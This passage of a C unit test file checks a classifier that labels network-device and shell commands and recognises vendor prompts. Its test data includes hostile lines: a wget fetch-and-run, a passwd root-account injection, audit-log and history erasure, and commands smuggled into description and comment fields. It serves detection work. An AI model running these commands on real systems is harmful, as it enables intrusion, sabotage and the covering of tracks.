/* What commands, prompts and error lines of each vendor mean. */
#include "config.h"

#include "dissectors/common/cli_match.h"
#include "tests/unit.h"
#include <check.h>
#include <stdio.h>
#include <stdlib.h>

struct command {
	enum cli_family family;
	enum cli_mode mode;
	const char *line;
	const char *means; /* "verb subject", or "-" for navigation */
	const char *text;  /* written out; NULL where it is the line */
};

#define U CLI_MODE_UNKNOWN
#define O CLI_MODE_OPERATIONAL
#define P CLI_MODE_PRIVILEGED
#define C CLI_MODE_CONFIG

static const struct command commands[] = {
	/* as typed: any start of a word that no other command begins with */
	{CLI_IOS, P, "clea log", "erase logging", "clear logging"},
	{CLI_IOS, P, "cop ru tftp://10.0.0.1/x", "export config", "copy running-config tftp://10.0.0.1/x"},
	{CLI_IOS, P, "del /fo flash:x", "erase file", "delete /fo flash:x"},
	{CLI_IOS, P, "clo set 10:00:00 1 jan 2026", "change time", "clock set 10:00:00 1 jan 2026"},
	{CLI_IOS, P, "do wr", "save config", "do write"},
	{CLI_IOS, C, "do clea log", "erase logging", "do clear logging"},
	{CLI_IOS, C, "ip rou 0.0.0.0 0.0.0.0 10.0.0.1", "change route", "ip route 0.0.0.0 0.0.0.0 10.0.0.1"},
	{CLI_IOS, C, "no ip rou 10.0.0.0 255.0.0.0 10.0.0.1", "change route", "no ip route 10.0.0.0 255.0.0.0 10.0.0.1"},
	{CLI_IOS, C, "mon sess 1 sou int g0/1", "change mirror", "monitor session 1 sou int g0/1"},
	{CLI_IOS, C, "transp inp telnet", "change service", "transport input telnet"},
	{CLI_VRP, P, "res sav", "erase config", "reset saved-configuration"},
	{CLI_VRP, P, "sy", "-", "system-view"},
	{CLI_VRP, C, "un info-c loghost 10.0.0.1", "change logging", "un info-center loghost 10.0.0.1"},
	{CLI_NXOS, P, "conf t ; int e1/1 ; shut", "change interface", NULL},
	{CLI_NXOS, P, "show clock ; write erase", "erase config", NULL},
	{CLI_NXOS, P, "conf t ; no logging server 10.1.1.1 ; username eve role network-admin ; end",
		"change logging", NULL},
	{CLI_NXOS, P, "copy running-config startup-config ; reload", "save config", NULL},
	{CLI_IOS, P, "show clock ; write erase", "erase config", NULL},
	{CLI_IOS, P, "show run | include a ; write erase", "read config",
		"show running-config | include a ; write erase"},
	{CLI_IOSXR, C, "description a ; reload", "change interface", NULL},
	/* scripts of RouterOS: what they run, not what they only store */
	{CLI_ROUTEROS, P, ":if (1=1) do={/user add name=eve group=full}", "change account", NULL},
	{CLI_ROUTEROS, P, "{/system logging disable 0}", "change logging", NULL},
	{CLI_ROUTEROS, P, ":do {/system logging remove 0} on-error={}", "change logging", NULL},
	{CLI_ROUTEROS, P, ":execute \"/user add name=e2 group=full\"", "change account", NULL},
	{CLI_ROUTEROS, P, ":delay 1s; /system logging disable 0", "change logging", NULL},
	{CLI_ROUTEROS, P, ":put [/ip address print]", "read system", NULL},
	{CLI_ROUTEROS, P, ":foreach i in=[/interface find] do={/interface disable $i}",
		"change interface", NULL},
	{CLI_ROUTEROS, P, "/system scheduler add name=x on-event={/system reboot; /user add name=e}",
		"change schedule", NULL},
	{CLI_ROUTEROS, P, "/system scheduler add name=x on-event=\"/a; /system reboot\"",
		"change schedule", NULL},
	{CLI_ROUTEROS, P, "/interface set 0 comment=\"a; /user remove bob\"", "change interface", NULL},
	/* shells: what stands in the midst of a line is run, too */
	{CLI_SHELL, P, "$(rm -rf /etc)", "erase file", NULL},
	{CLI_SHELL, P, "`reboot`", "reboot system", NULL},
	{CLI_SHELL, P, "(reboot)", "reboot system", NULL},
	{CLI_SHELL, P, "busybox reboot", "reboot system", NULL},
	{CLI_SHELL, P, "/bin/busybox wget http://10.3.3.3/x", "import file", NULL},
	{CLI_SHELL, P, "busybox", "exec schedule", NULL},
	{CLI_SHELL, P, "/bin/busybox ECCHI", "exec schedule", NULL},
	{CLI_SHELL, P, "echo x:y:0:0::/:/bin/sh >> /etc/passwd", "change account", NULL},
	{CLI_SHELL, P, "echo x:y:0:0::/:/bin/sh >>/etc/passwd", "change account", NULL},
	{CLI_SHELL, P, "grep x </etc/passwd > /tmp/y", "read system", NULL},
	{CLI_SHELL, P, "shutdown -c", "change system", NULL},
	{CLI_IOS, P, "reload cancel", "change system", NULL},
	{CLI_IOS, P, "reload in 5", "reboot system", NULL},
	{CLI_EOS, P, "configure session s2 commit", "save config", NULL},
	{CLI_EOS, P, "configure session s2", "-", NULL},
	{CLI_IOS, C, "exec \"write erase\"", "exec schedule", NULL},
	{CLI_COMWARE, C, "command 1 reboot", "change schedule", NULL},
	{CLI_COMWARE, C, "command-privilege level 1 view shell save", "change account", NULL},
	{CLI_SAOS, P, "configuration load filename x", "import config", NULL},
	{CLI_SROS, C, "copy router \"Base\" to router \"x\"", "change config", NULL},
	{CLI_ZTE, P, "copy ftp root: //mng/10.3.3.3/startrun.dat@u:p /cfg/startrun.dat",
		"import config", NULL},
	{CLI_JUNOS, O, "monitor traffic interface ge-0/0/0 write-file x", "exec mirror", NULL},
	{CLI_NXOS, C, "description a;reload", "change interface", NULL},
	{CLI_IOS, C, "description a ; reload", "change interface", NULL},
	{CLI_IOS, P, "! reload", "-", NULL},
	{CLI_VRP, C, "# undo info-center enable", "-", NULL},
	{CLI_SHELL, P, "!reboot", "exec system", NULL},
	/* nothing known of the system, as in accounting records and logs */
	{CLI_UNKNOWN, U, "username eve secret 5 x", "change account", NULL},
	{CLI_UNKNOWN, U, "username eve privilege 15 secret x", "change account", NULL},
	{CLI_UNKNOWN, U, "show running-config", "read config", NULL},
	{CLI_UNKNOWN, U, "sh run", "read config", "show running-config"},
	{CLI_UNKNOWN, U, "show ip route", "read route", NULL},
	{CLI_UNKNOWN, U, "conf t", "-", "configure terminal"},
	{CLI_UNKNOWN, U, "configure terminal ", "-", "configure terminal"},
	{CLI_UNKNOWN, U, "configure", "-", NULL},
	{CLI_UNKNOWN, U, "wr", "save config", "write"},
	{CLI_UNKNOWN, U, "wr mem", "save config", "write memory"},
	{CLI_UNKNOWN, U, "write erase", "erase config", NULL},
	{CLI_UNKNOWN, U, "reload in 5", "reboot system", NULL},
	{CLI_UNKNOWN, U, "reboot", "reboot system", NULL},
	{CLI_UNKNOWN, U, "copy running-config startup-config", "save config", NULL},
	{CLI_UNKNOWN, U, "copy run start", "save config", "copy running-config startup-config"},
	{CLI_UNKNOWN, U, "copy running-config tftp:", "export config", NULL},
	{CLI_UNKNOWN, U, "copy tftp://10.0.0.1/x running-config", "import config", NULL},
	{CLI_UNKNOWN, U, "copy tftp: flash:", "image image", NULL},
	{CLI_UNKNOWN, U, "copy flash:x ftp://10.0.0.1/y", "export file", NULL},
	{CLI_UNKNOWN, U, "no logging 10.20.0.10", "change logging", NULL},
	{CLI_UNKNOWN, U, "no logging on", "change logging", NULL},
	{CLI_UNKNOWN, U, "undo info-center enable", "change logging", NULL},
	{CLI_UNKNOWN, U, "no aaa new-model", "change aaa", NULL},
	{CLI_UNKNOWN, U, "no snmp-server host 10.0.0.1", "change snmp-access", NULL},
	{CLI_UNKNOWN, U, "snmp-server community x RW", "change snmp-access", NULL},
	{CLI_UNKNOWN, U, "ip route 0.0.0.0 0.0.0.0 10.0.0.1", "change route", NULL},
	{CLI_UNKNOWN, U, "interface GigabitEthernet0/1", "-", NULL},
	{CLI_UNKNOWN, U, "interface Tunnel5", "change tunnel", NULL},
	{CLI_UNKNOWN, U, "shutdown", "change interface", NULL},
	{CLI_UNKNOWN, U, "display current-configuration", "read config", NULL},
	{CLI_UNKNOWN, U, "dis cur", "read config", "display current-configuration"},
	{CLI_UNKNOWN, U, "system-view", "-", NULL},
	{CLI_UNKNOWN, U, "local-user eve privilege level 15", "change account", NULL},
	{CLI_UNKNOWN, U, "save", "save config", NULL},
	{CLI_UNKNOWN, U, "tftp 10.20.0.10 put vrpcfg.cfg", "export config", NULL},
	{CLI_UNKNOWN, U, "set system syslog host 10.0.0.1 any any", "change logging", NULL},
	{CLI_UNKNOWN, U, "delete system login user bob", "change account", NULL},
	{CLI_UNKNOWN, U, "delete flash:old.bin", "erase file", NULL},
	{CLI_UNKNOWN, U, "/user add name=x group=full", "change account", NULL},
	{CLI_UNKNOWN, U, "/ip/firewall/filter add chain=input", "change acl", NULL},
	{CLI_UNKNOWN, U, "/system reboot", "reboot system", NULL},
	{CLI_UNKNOWN, U, "/bin/busybox MIRAI", "exec schedule", NULL},
	{CLI_UNKNOWN, U, "frobnicate the box", "exec system", NULL},
	{CLI_UNKNOWN, U, "", "-", ""},
	{CLI_UNKNOWN, U, "exit", "-", NULL},
	{CLI_UNKNOWN, U, "ping 10.0.0.1", "read system", NULL},
	/* Cisco IOS and kin */
	{CLI_IOS, O, "en", "-", "enable"},
	{CLI_IOS, O, "enable 15", "-", NULL},
	{CLI_IOS, P, "terminal length 0", "-", NULL},
	{CLI_IOS, P, "term len 0", "-", "terminal len 0"},
	{CLI_IOS, P, "show run | redirect tftp://10.0.0.1/x", "export config",
		"show running-config | redirect tftp://10.0.0.1/x"},
	{CLI_IOS, P, "sh ver", "read system", "show version"},
	{CLI_IOS, P, "erase startup-config", "erase config", NULL},
	{CLI_IOS, P, "clear logging", "erase logging", NULL},
	{CLI_IOS, P, "clear counters", "exec system", NULL},
	{CLI_IOS, P, "configure replace tftp://10.0.0.1/c force", "import config", NULL},
	{CLI_IOS, P, "monitor capture c1 interface Gi1 both", "change mirror", NULL},
	{CLI_IOS, P, "guestshell run bash", "exec schedule", NULL},
	{CLI_IOS, P, "install add file tftp://10.0.0.1/x.bin activate commit", "image image", NULL},
	{CLI_IOS, P, "frobnicate", "exec system", NULL},
	{CLI_IOS, C, "do show run", "read config", "do show running-config"},
	{CLI_IOS, C, "do wr", "save config", "do write"},
	{CLI_IOS, C, "no shut", "change interface", "no shutdown"},
	{CLI_IOS, C, "int gi0/1", "-", "interface gi0/1"},
	{CLI_IOS, C, "no interface Loopback7", "change interface", NULL},
	{CLI_IOS, C, "line vty 0 4", "-", NULL},
	{CLI_IOS, C, "transport input telnet", "change service", NULL},
	{CLI_IOS, C, "ip http server", "change service", NULL},
	{CLI_IOS, C, "monitor session 1 source interface Gi0/1", "change mirror", NULL},
	{CLI_IOS, C, "access-list 10 permit 10.66.0.66", "change acl", NULL},
	{CLI_IOS, C, "ip access-list extended X", "change acl", NULL},
	{CLI_IOS, C, "router bgp 65000", "change route", NULL},
	{CLI_IOS, C, "tunnel mode gre ip", "change tunnel", NULL},
	{CLI_IOS, C, "crypto map M 10 ipsec-isakmp", "change tunnel", NULL},
	{CLI_IOS, C, "crypto pki trustpoint T", "change certificate", NULL},
	{CLI_IOS, C, "tacacs server T1", "change aaa", NULL},
	{CLI_IOS, C, "ntp server 10.0.0.1", "change time", NULL},
	{CLI_IOS, C, "boot system flash:x.bin", "change image", NULL},
	{CLI_IOS, C, "kron policy-list P", "change schedule", NULL},
	{CLI_IOS, C, "event manager applet A", "change schedule", NULL},
	{CLI_IOS, C, "archive", "change logging", NULL},
	{CLI_IOS, C, "hostname R2", "change config", NULL},
	{CLI_IOS, C, "frobnicate", "change config", NULL},
	{CLI_IOS, C, "end", "-", NULL},
	{CLI_IOS, C, "ip roote 0.0.0.0", "change config", NULL},
	{CLI_IOS, C, "dot1x port-control force-authorized", "change aaa", NULL},
	{CLI_IOSXR, C, "commit label X", "save config", NULL},
	{CLI_NXOS, P, "run bash", "exec schedule", NULL},
	{CLI_IOSXR, P, "run", "exec schedule", NULL},
	{CLI_IOSXR, C, "abort", "-", NULL},
	{CLI_NXOS, P, "copy r s", "save config", "copy running-config startup-config"},
	{CLI_IOS, P, "copy running-config tftp 10.0.0.9 x.cfg", "export config", NULL},
	{CLI_IOS, P, "copy tftp://10.0.0.9/x.cfg flash:", "import config", NULL},
	{CLI_IOS, P, "copy flash:a.cfg flash:b.cfg", "exec file", NULL},
	{CLI_IOS, P, "boot system flash secondary", "reboot system", NULL},
	{CLI_IOS, P, "boot system primary", "reboot system", NULL},
	{CLI_IOS, C, "disable", "change interface", NULL},
	{CLI_IOS, P, "disable", "-", NULL},
	{CLI_IOS, C, "exit-address-family", "-", NULL},
	{CLI_IOS, C, "capture c1 interface inside", "change mirror", NULL},
	{CLI_IOS, C, "route outside 0.0.0.0 0.0.0.0 10.1.1.1", "change route", NULL},
	{CLI_ZTE, C, "no syslog-server host 10.1.1.1", "change logging", NULL},
	{CLI_ZTE, P, "copy flash: /cfg/startrun.dat ftp: //10.0.0.9/x", "export config", NULL},
	{CLI_CALIX, C, "aaa user eve role admin", "change account", NULL},
	/* Fortinet, Extreme, Alcatel-Lucent, Nokia ISAM, VyOS */
	{CLI_FORTIOS, P, "config system admin", "-", NULL},
	{CLI_FORTIOS, C, "edit eve", "change config", NULL},
	{CLI_FORTIOS, C, "next", "-", NULL},
	{CLI_FORTIOS, P, "execute backup config tftp x.conf 10.0.0.9", "export config", NULL},
	{CLI_FORTIOS, P, "execute reboot", "reboot system", NULL},
	{CLI_FORTIOS, P, "diagnose sniffer packet any", "exec mirror", NULL},
	{CLI_EXOS, P, "configure syslog delete 10.1.1.1 local4", "change logging", NULL},
	{CLI_EXOS, P, "create account admin eve", "change account", NULL},
	{CLI_EXOS, P, "disable ports 3", "change interface", NULL},
	{CLI_EXOS, P, "upload configuration 10.0.0.9 x.xsf", "export config", NULL},
	{CLI_EXOS, P, "save configuration", "save config", NULL},
	{CLI_AOS, P, "no swlog output socket 10.1.1.1", "change logging", NULL},
	{CLI_AOS, P, "copy working certified", "save config", NULL},
	{CLI_ISAM, P, "configure system security operator eve", "change account", NULL},
	{CLI_ISAM, P, "admin equipment reboot-isam without-self-test", "reboot system", NULL},
	{CLI_ISAM, P, "admin software-mngt shub database save", "save config", NULL},
	{CLI_SROS, P, "/admin save", "save config", "admin save"},
	{CLI_JUNOS, C, "set interfaces tunnel tun0 remote 10.0.0.9", "change tunnel", NULL},
	{CLI_JUNOS, C, "set service ssh port 2022", "change service", NULL},
	{CLI_JUNOS, C, "save", "save config", NULL},
	{CLI_SHELL, P, "/usr/sbin/useradd eve", "change account", NULL},
	{CLI_ZTE, C, "interface gpon-olt_1/1/1", "-", NULL},
	/* Huawei, H3C */
	{CLI_VRP, O, "sys", "-", "system-view"},
	{CLI_VRP, O, "dis ver", "read system", "display version"},
	{CLI_VRP, O, "reset saved-configuration", "erase config", NULL},
	{CLI_VRP, O, "startup system-software x.cc", "change image", NULL},
	{CLI_VRP, O, "tftp 10.0.0.1 get s5700.cc", "image image", NULL},
	{CLI_VRP, C, "aaa", "-", NULL},
	{CLI_VRP, C, "quit", "-", NULL},
	{CLI_VRP, C, "return", "-", NULL},
	{CLI_VRP, C, "undo info-center loghost 10.0.0.9", "change logging", NULL},
	{CLI_VRP, C, "undo shutdown", "change interface", NULL},
	{CLI_VRP, C, "local-user eve password irreversible-cipher x", "change account", NULL},
	{CLI_VRP, C, "hwtacacs-server template T", "change aaa", NULL},
	{CLI_VRP, C, "snmp-agent community write cipher x", "change snmp-access", NULL},
	{CLI_VRP, C, "acl number 2000", "change acl", NULL},
	{CLI_VRP, C, "observe-port 1 interface GigabitEthernet0/0/9", "change mirror", NULL},
	{CLI_VRP, C, "tunnel-protocol gre", "change tunnel", NULL},
	{CLI_VRP, C, "stelnet server enable", "change service", NULL},
	{CLI_VRP, C, "ntp-service unicast-server 10.0.0.1", "change time", NULL},
	{CLI_VRP, C, "commit", "save config", NULL},
	{CLI_VRP, C, "display this", "read config", NULL},
	{CLI_VRP, C, "sysname X", "change config", NULL},
	{CLI_COMWARE, O, "save force", "save config", NULL},
	{CLI_COMWARE, O, "boot-loader file flash:/x.ipe all main", "image image", NULL},
	/* Junos */
	{CLI_JUNOS, O, "show configuration | display set", "read config", NULL},
	{CLI_JUNOS, O, "request system reboot", "reboot system", NULL},
	{CLI_JUNOS, O, "req sys reb", "reboot system", "request system reboot"},
	{CLI_JUNOS, O, "request system soft add x.tgz", "image image",
		"request system software add x.tgz"},
	{CLI_JUNOS, O, "request system zeroize", "erase config", NULL},
	{CLI_JUNOS, O, "request system software add x.tgz", "image image", NULL},
	{CLI_JUNOS, O, "start shell", "exec schedule", NULL},
	{CLI_JUNOS, C, "set system login user eve class super-user", "change account", NULL},
	{CLI_JUNOS, C, "set snmp community x authorization read-write", "change snmp-access", NULL},
	{CLI_JUNOS, C, "set firewall filter F term T then accept", "change acl", NULL},
	{CLI_JUNOS, C, "deactivate system syslog", "change logging", NULL},
	{CLI_JUNOS, C, "set interfaces gr-0/0/0 unit 0 tunnel source 1.1.1.1", "change tunnel",
		NULL},
	{CLI_JUNOS, C, "set system services telnet", "change service", NULL},
	{CLI_JUNOS, C, "commit confirmed 5", "save config", NULL},
	{CLI_JUNOS, C, "edit system", "-", NULL},
	{CLI_JUNOS, C, "run show version", "read system", NULL},
	{CLI_JUNOS, C, "load override terminal", "import config", NULL},
	/* Nokia, MikroTik, Ciena */
	{CLI_SROS, P, "admin display-config", "read config", NULL},
	{CLI_SROS, P, "admin save", "save config", NULL},
	{CLI_SROS, P, "admin reboot now", "reboot system", NULL},
	{CLI_SROS, P, "configure system security user \"eve\" password x", "change account", NULL},
	{CLI_SROS, P, "configure router", "-", NULL},
	{CLI_SROS, P, "configure system security", "-", NULL},
	{CLI_SROS, C, "interface \"to-core\"", "-", NULL},
	{CLI_SROS, C, "interface \"to-core\" address 10.0.0.1/30", "change interface", NULL},
	{CLI_SROS, P, "configure router static-route-entry 0.0.0.0/0", "change route", NULL},
	{CLI_SROS, P, "bof primary-image cf3:/x", "change image", NULL},
	{CLI_ROUTEROS, P, "/export file=x", "export config", NULL},
	{CLI_ROUTEROS, P, "/ip address print", "read system", NULL},
	{CLI_ROUTEROS, P, "/system reset-configuration no-defaults=yes", "erase config", NULL},
	{CLI_ROUTEROS, P, "/system logging remove 0", "change logging", NULL},
	{CLI_ROUTEROS, P, "/interface gre add remote-address=1.2.3.4", "change tunnel", NULL},
	{CLI_ROUTEROS, P, "/tool sniffer start", "change mirror", NULL},
	{CLI_ROUTEROS, P, "add chain=input", "change config", NULL},
	{CLI_SAOS, P, "configuration save", "save config", NULL},
	{CLI_SAOS, P, "user create user eve", "change account", NULL},
	/* systems with a Unix shell */
	{CLI_SHELL, P, "systemctl stop rsyslog", "change logging", NULL},
	{CLI_SHELL, P, "sudo service auditd stop", "change logging", NULL},
	{CLI_SHELL, P, "pkill -9 syslogd", "change logging", NULL},
	{CLI_SHELL, P, "systemctl restart nginx", "change service", NULL},
	{CLI_SHELL, P, "systemctl status nginx", "read service", NULL},
	{CLI_SHELL, P, "systemctl reboot", "reboot system", NULL},
	{CLI_ZTE, C, "pon-onu-mng gpon-onu_1/2/1:1", "-", NULL},
	{CLI_IOS, C, "load program tftp 10.0.0.1 x.bin", "image image", NULL},
	{CLI_VRP, C, "load data ftp 10.0.0.1 c.dat", "import config", NULL},
	{CLI_UNKNOWN, P, "copy working certified", "save config", NULL},
	{CLI_UNKNOWN, P, "write memory", "save config", NULL},
	{CLI_IOS, P, "telnet close", "change service", NULL},
	{CLI_IOS, P, "telnet 10.60.1.9", "exec session", NULL},
	{CLI_SROS, P, "file delete cf3:/x", "erase file", NULL},
	{CLI_SHELL, P, "shutdown -h now", "reboot system", NULL},
	{CLI_SHELL, P, "rm -rf /var/log/audit", "erase logging", NULL},
	{CLI_SHELL, P, "rm -f /tmp/x", "erase file", NULL},
	{CLI_SHELL, P, "history -c", "erase logging", NULL},
	{CLI_SHELL, P, "ip route add 10.0.0.0/8 via 10.1.1.1", "change route", NULL},
	{CLI_SHELL, P, "ip -6 route show", "read system", NULL},
	{CLI_SHELL, P, "ip link set eth0 down", "change interface", NULL},
	{CLI_SHELL, P, "ip link add gre9 type gretap remote 10.6.6.6", "change tunnel", NULL},
	{CLI_SHELL, P, "ifconfig eth0 10.1.1.1 up", "change interface", NULL},
	{CLI_SHELL, P, "ifconfig eth0", "read system", NULL},
	{CLI_SHELL, P, "apt-get install -y tcpdump", "image image", NULL},
	{CLI_SHELL, P, "date -s 12:00", "change time", NULL},
	{CLI_SHELL, P, "cd /tmp || cd /var; wget http://10.6.6.6/x; chmod 777 x; ./x",
		"import file", NULL},
	{CLI_SHELL, P, "cp a b; rm -rf /var/log/x", "erase logging", NULL},
	{CLI_SHELL, P, "dmesg 2>&1 | grep eth", "read system", NULL},
	{CLI_IOS, P, "show run | include user", "read config",
		"show running-config | include user"},
	{CLI_SHELL, P, "vi /etc/passwd", "change file", NULL},
	{CLI_SHELL, P, "grep x /etc/hosts", "read system", NULL},
};

START_TEST(each_command_means_what_its_vendor_says)
{
	const struct command *c = &commands[_i];
	struct cli_meaning m;
	char said[64];

	cli_classify(&lexicon_builtin, c->family, c->mode, span_str(c->line), &m);
	snprintf(said, sizeof(said), "%s %s", verb_name(m.verb), subject_name(m.subject));
	if (m.navigation)
		snprintf(said, sizeof(said), "-");
	ck_assert_msg(strcmp(said, c->means) == 0, "%s: %s, not %s", c->line, said, c->means);
	const char *text = c->text ? c->text : c->line;
	ck_assert_msg(m.text_len == strlen(text) && memcmp(m.text, text, m.text_len) == 0,
		"%s is written out as %.*s", c->line, (int)m.text_len, m.text);
}
END_TEST

START_TEST(commands_tell_how_they_move_between_modes_and_what_they_name)
{
	struct cli_meaning m;

	cli_classify(&lexicon_builtin, CLI_IOS, P, SPAN_LIT("conf t"), &m);
	ck_assert(m.enters_config && m.known && !m.leaves_config);
	cli_classify(&lexicon_builtin, CLI_IOS, C, SPAN_LIT("end"), &m);
	ck_assert(m.leaves_config);
	cli_classify(&lexicon_builtin, CLI_IOS, C, SPAN_LIT("exit"), &m);
	ck_assert(m.leaves && !m.leaves_config);
	cli_classify(&lexicon_builtin, CLI_UNKNOWN, U, SPAN_LIT("no logging on"), &m);
	ck_assert(m.negated);
	cli_classify(&lexicon_builtin, CLI_UNKNOWN, U, SPAN_LIT("username x secret y"), &m);
	ck_assert(m.has_secret && m.known);
	cli_classify(&lexicon_builtin, CLI_UNKNOWN, U,
		SPAN_LIT("copy running-config ftp://u:p@10.0.0.1:21/x"), &m);
	ck_assert(span_eq(m.target, SPAN_LIT("10.0.0.1")));
	cli_classify(
		&lexicon_builtin, CLI_UNKNOWN, U, SPAN_LIT("tftp 10.20.0.10 put vrpcfg.zip"), &m);
	ck_assert(span_eq(m.target, SPAN_LIT("10.20.0.10")));
	cli_classify(&lexicon_builtin, CLI_UNKNOWN, U,
		SPAN_LIT("copy tftp://[2001:db8::1]/x flash:"), &m);
	ck_assert(span_eq(m.target, SPAN_LIT("2001:db8::1")));
	cli_classify(&lexicon_builtin, CLI_UNKNOWN, U, SPAN_LIT("frobnicate"), &m);
	ck_assert(!m.known);
}
END_TEST

START_TEST(a_line_of_several_commands_tells_every_deed)
{
	static const struct {
		enum cli_family family;
		const char *line, *deeds;
	} lines[] = {
		{CLI_NXOS, "conf t ; no logging server 10.1.1.1 ; username eve role x ; end",
			"change logging, change account"},
		{CLI_NXOS, "copy running-config startup-config ; reload", "save config, reboot system"},
		{CLI_ROUTEROS, "/ip firewall filter disable 0; /user add name=e3 group=full",
			"change acl, change account"},
		{CLI_SHELL, "useradd eve && rm -rf /var/log/messages",
			"erase logging, change account"},
		{CLI_SHELL, "ls; reboot", "reboot system"},
		{CLI_SHELL, "reboot", "reboot system"},
	};

	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		struct cli_meaning m;
		char said[256];
		cli_classify(&lexicon_builtin, lines[i].family, P, span_str(lines[i].line), &m);
		int len = snprintf(said, sizeof(said), "%s %s", verb_name(m.verb),
			subject_name(m.subject));
		for (uint32_t k = 0; k < m.also_count; k++)
			len += snprintf(said + len, sizeof(said) - (size_t)len, ", %s %s",
				verb_name(m.also[k].verb), subject_name(m.also[k].subject));
		ck_assert_str_eq(said, lines[i].deeds);
	}
}
END_TEST

struct shape {
	const char *line;
	enum cli_family family;
	enum cli_mode mode;
	const char *host;
};

static const struct shape prompts[] = {
	{"R1>", CLI_IOS, O, "R1"},
	{"R1# ", CLI_IOS, P, "R1"},
	{"core-sw.lab#", CLI_IOS, P, "core-sw.lab"},
	{"R1(config)#", CLI_IOS, C, "R1"},
	{"R1(config-if)#", CLI_IOS, C, "R1"},
	{"RP/0/RSP0/CPU0:asr9k#", CLI_IOSXR, P, "asr9k"},
	{"RP/0/RSP0/CPU0:asr9k(config)#", CLI_IOSXR, C, "asr9k"},
	{"<HUAWEI>", CLI_VRP, O, "HUAWEI"},
	{"HRP_M<USG6000>", CLI_VRP, O, "USG6000"},
	{"[HUAWEI]", CLI_VRP, C, "HUAWEI"},
	{"[HUAWEI-GigabitEthernet0/0/1]", CLI_VRP, C, "HUAWEI-GigabitEthernet0/0/1"},
	{"[~HUAWEI]", CLI_VRP, C, "HUAWEI"},
	{"[*HUAWEI-aaa]", CLI_VRP, C, "HUAWEI-aaa"},
	{"<H3C>", CLI_COMWARE, O, "H3C"},
	{"MA5800(config-if-gpon-0/1)#", CLI_IOS, C, "MA5800"},
	{"bob@mx240> ", CLI_JUNOS, O, "mx240"},
	{"bob@mx240# ", CLI_JUNOS, C, "mx240"},
	{"A:pe1#", CLI_SROS, P, "pe1"},
	{"*A:pe1>config>router#", CLI_SROS, C, "pe1"},
	{"A:admin@pe1#", CLI_SROS, P, "pe1"},
	{"[local]bng1#", CLI_IPOS, P, "bng1"},
	{"[local]bng1(config)#", CLI_IPOS, C, "bng1"},
	{"[admin@MikroTik] > ", CLI_ROUTEROS, P, "MikroTik"},
	{"[admin@MikroTik] /ip/firewall> ", CLI_ROUTEROS, P, "MikroTik"},
	{"ZXAN(config-if)#", CLI_ZTE, C, "ZXAN"},
	{"-> ", CLI_UNKNOWN, P, ""},
	{"fg1 # ", CLI_FORTIOS, P, "fg1"},
	{"fg1 (admin) # ", CLI_FORTIOS, C, "fg1"},
	{"* X440.12 # ", CLI_EXOS, P, ""},
	{"leg:isadmin>#", CLI_ISAM, P, "isadmin"},
	{"leg:isadmin>configure>system>#", CLI_ISAM, C, "isadmin"},
	{"ZXAN(gpon-onu-mng)#", CLI_ZTE, C, "ZXAN"},
	{"ciena*>", CLI_SAOS, O, "ciena"},
	{"root@box:~# ", CLI_SHELL, P, "box"},
	{"[root@box ~]# ", CLI_SHELL, P, "box"},
	{"gw9:~# ", CLI_SHELL, P, "gw9"},
	{"gw9:/etc/init.d$ ", CLI_SHELL, P, "gw9"},
	{"sh-5.1# ", CLI_SHELL, P, ""},
	{"# ", CLI_SHELL, P, ""},
	{"/ # ", CLI_SHELL, P, ""},
	{"(config)>", CLI_UNKNOWN, C, ""},
	{"Username: ", CLI_UNKNOWN, CLI_MODE_LOGIN, ""},
	{"login:", CLI_UNKNOWN, CLI_MODE_LOGIN, ""},
	{"box login: ", CLI_UNKNOWN, CLI_MODE_LOGIN, "box"},
	{">>User name:", CLI_UNKNOWN, CLI_MODE_LOGIN, ""},
	{"Password:", CLI_UNKNOWN, CLI_MODE_PASSWORD, ""},
	{">>User password:", CLI_UNKNOWN, CLI_MODE_PASSWORD, ""},
	{"[sudo] password for bob: ", CLI_UNKNOWN, CLI_MODE_PASSWORD, ""},
	{"Enter PASSCODE:", CLI_UNKNOWN, CLI_MODE_PASSWORD, ""},
	{" --More-- ", CLI_UNKNOWN, CLI_MODE_PAGER, ""},
	{"  ---- More ----", CLI_UNKNOWN, CLI_MODE_PAGER, ""},
	{"---(more 50%)---", CLI_UNKNOWN, CLI_MODE_PAGER, ""},
	{"Proceed with reload? [confirm]", CLI_UNKNOWN, CLI_MODE_QUESTION, ""},
	{"Are you sure to continue?[Y/N]", CLI_UNKNOWN, CLI_MODE_QUESTION, ""},
	{"System will reboot! Continue?[Y/N]:", CLI_UNKNOWN, CLI_MODE_QUESTION, ""},
	{"Destination filename [r1-confg]? ", CLI_UNKNOWN, CLI_MODE_QUESTION, ""},
	{"Save? [yes/no]: ", CLI_UNKNOWN, CLI_MODE_QUESTION, ""},
	{"Reboot the system ? [yes,no] (no) ", CLI_UNKNOWN, CLI_MODE_QUESTION, ""},
	{"This command will reboot the system. (y/n)?  [n] ", CLI_UNKNOWN, CLI_MODE_QUESTION, ""},
	{"Do you wish to proceed anyway? (y/n)  [n] ", CLI_UNKNOWN, CLI_MODE_QUESTION, ""},
	{"Do you want to continue (y/n) [n] ", CLI_UNKNOWN, CLI_MODE_QUESTION, ""},
	{"Reboot, yes? [y/N]: ", CLI_UNKNOWN, CLI_MODE_QUESTION, ""},
	{"Dangerous! Reset anyway? [y/N]", CLI_UNKNOWN, CLI_MODE_QUESTION, ""},
};

START_TEST(each_prompt_tells_its_family_and_mode)
{
	const struct shape *s = &prompts[_i];
	struct cli_prompt p;

	ck_assert_msg(
		cli_prompt(&lexicon_builtin, span_str(s->line), &p), "%s is no prompt", s->line);
	ck_assert_msg(p.family == s->family, "%s: family %d", s->line, p.family);
	ck_assert_msg(p.mode == s->mode, "%s: mode %d", s->line, p.mode);
	ck_assert_msg(span_eq(p.hostname, span_str(s->host)), "%s: host %.*s", s->line,
		(int)p.hostname.len, p.hostname.p);
}
END_TEST

static const char *const no_prompts[] = {"", " ", "50%>", "100>", "foo bar#", "[OK]", "[edit]", "!",
	"description uplink #", "Last login:", "Last failed login:", "</config>",
	"<?xml version=\"1.0\"?>", "a", ">>", "interface Gi0/1", "R1#show run",
	"%SYS-5-CONFIG_I: Configured>", "\xff\xfb#", "220 ready", "[100%]", "()#", "(#", "[]", "<>",
	"@", "@#", "a@", "[@]>", "*A:#", "A:>", "RP/0:#"};

START_TEST(text_that_only_resembles_a_prompt_is_none)
{
	struct cli_prompt p;
	ck_assert_msg(
		!cli_prompt(&lexicon_builtin, span_str(no_prompts[_i]), &p), "%s", no_prompts[_i]);
}
END_TEST

START_TEST(error_lines_are_told_from_output)
{
	static const struct {
		const char *line;
